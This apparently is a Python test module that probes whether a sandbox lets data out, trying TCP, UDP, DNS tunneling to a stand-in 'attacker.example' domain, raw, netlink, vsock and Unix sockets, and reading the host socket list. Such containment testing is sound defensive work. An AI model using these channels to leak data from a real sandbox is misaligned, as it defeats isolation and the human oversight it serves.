"""Ways out by sockets."""

from __future__ import annotations

import ctypes
import os
import socket
import struct

from calls import libc  # type: ignore[import-not-found]
from runner import Nothing, Setting  # type: ignore[import-not-found]

_HOST = "127.0.0.1"


def tcp(setting: Setting) -> str:
    with socket.create_connection((_HOST, setting["tcp"]), timeout=5) as out:
        out.sendall(b"secret")
        return out.recv(100).decode()


def udp(setting: Setting) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(5)
        out.sendto(b"secret", (_HOST, setting["udp"]))
        return out.recv(100).decode()


def dns(setting: Setting) -> str:
    """A name server outside learns the secret from the name that it is asked for."""
    question = b"".join(bytes([len(part)]) + part for part in (b"secret", b"attacker", b"example")) + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(5)
        out.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + question, (_HOST, setting["udp"]))
        return out.recv(100).decode("latin-1")


def listen(_setting: Setting) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as door:
        door.bind((_HOST, 0))
        door.listen()
        return f"a door at port {door.getsockname()[1]}"


def raw(_setting: Setting) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "a socket for packets of its own making"


def netlink(_setting: Setting) -> str:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as asked:
        asked.settimeout(5)
        asked.sendto(struct.pack("=IHHII", 17, 18, 0x301, 1, 0) + b"\0", (0, 0))  # RTM_GETLINK, dump
        return f"{len(asked.recv(1 << 16))} bytes of the kernel's network configuration"


def vsock(_setting: Setting) -> str:
    """Sockets to the hypervisor belong to no network namespace."""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        return "a socket to the hypervisor"


def unix_path(setting: Setting) -> str:
    for path in (f"/host{setting['unix']}", setting["unix"]):
        with socket.socket(socket.AF_UNIX) as out:
            try:
                out.connect(path)
            except FileNotFoundError:
                continue
            return out.recv(100).decode()
    raise FileNotFoundError(2, "no such socket")


def unix_abstract(setting: Setting) -> str:
    with socket.socket(socket.AF_UNIX) as out:
        out.connect("\0" + setting["abstract"])
        return out.recv(100).decode()


def unix_datagram(setting: Setting) -> str:
    """One end of a nameless pair can send to any name, if it is of datagrams."""
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with one, other:
        return f"{one.sendto(b'secret', chr(0) + setting['datagrams'])} bytes sent"


def send_to_address(setting: Setting) -> str:
    """As before, over a pair of streams that the walls allow."""
    one, other = socket.socketpair()
    address = b"\1\0\0" + setting["datagrams"].encode()
    with one, other:
        ctypes.set_errno(0)
        if libc.sendto(one.fileno(), b"secret", 6, 0, address, len(address)) < 0:
            failed = ctypes.get_errno()
            if failed == 106:  # EISCONN: the filter let the address pass, the kind of socket did not
                return "the kernel looked at an address"
            raise OSError(failed, os.strerror(failed))
        return "sent"


def listing(setting: Setting) -> str:
    with open("/proc/net/unix", encoding="ascii") as rows:  # noqa: PTH123 - no more imports than needed
        if any(setting["abstract"] in row for row in rows):
            return "names of the host's sockets"
    raise Nothing("sockets of its own namespace alone")
